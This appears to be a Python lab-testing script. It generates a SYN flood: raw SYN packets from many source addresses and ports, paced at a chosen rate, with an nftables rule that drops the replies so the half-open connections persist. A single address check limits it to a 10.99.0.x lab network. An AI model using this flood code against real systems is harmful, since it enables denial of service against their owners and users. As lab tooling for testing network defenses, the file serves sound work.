"""Raw SYNs from many addresses of this box that are never followed by anything; works inside the lab only.

The answers are dropped here, so that this box does not end the half-open connections with a reset.
"""

import argparse
import itertools
import random
import socket
import struct
import subprocess
import sys

import labkit

# Below the range real clients of the box use.
SOURCE_PORTS = (1024, 29999)
BATCHES_PER_S = 50


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def syn(source, target):
    here, there = socket.inet_aton(source[0]), socket.inet_aton(target[0])
    sequence = random.getrandbits(32)

    def tcp(check):
        return struct.pack("!HHIIBBHHH", source[1], target[1], sequence, 0, 5 << 4, 2, 64240, check, 0)

    pseudo = here + there + struct.pack("!BBH", 0, socket.IPPROTO_TCP, 20)
    segment = tcp(checksum(pseudo + tcp(0)))
    # The kernel fills in length, id and checksum of a raw IP header.
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0, here, there) + segment


def swallow_answers(port):
    rule = "tcp sport %d tcp dport %d-%d drop" % ((port,) + SOURCE_PORTS)
    chain = "type filter hook input priority 0; policy accept;\n%s\n" % rule
    table = "table inet flood {\nchain c {\n%s}\n}\n" % chain
    subprocess.run(["nft", "-f", "-"], input=table.encode(), check=True)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--to", required=True, type=labkit.address)
    parser.add_argument("--source", action="append", required=True)
    parser.add_argument("--rate", type=int, required=True)
    parser.add_argument("--name", default="flood")
    options = parser.parse_args()
    # The only network this may ever reach is that between a lab host and its peer.
    if not options.to[0].startswith("10.99.0."):
        sys.exit("the flood stays inside the lab")
    labkit.start(options.name)
    swallow_answers(options.to[1])
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sources = itertools.cycle(
        (address, port) for port in range(*SOURCE_PORTS) for address in options.source
    )
    ready_after = options.rate
    for number, _ in enumerate(labkit.paced(BATCHES_PER_S)):
        for _ in range(options.rate // BATCHES_PER_S):
            raw.sendto(syn(next(sources), options.to), (options.to[0], 0))
        if number * options.rate // BATCHES_PER_S >= ready_after:
            labkit.ready(figures=False)


main()
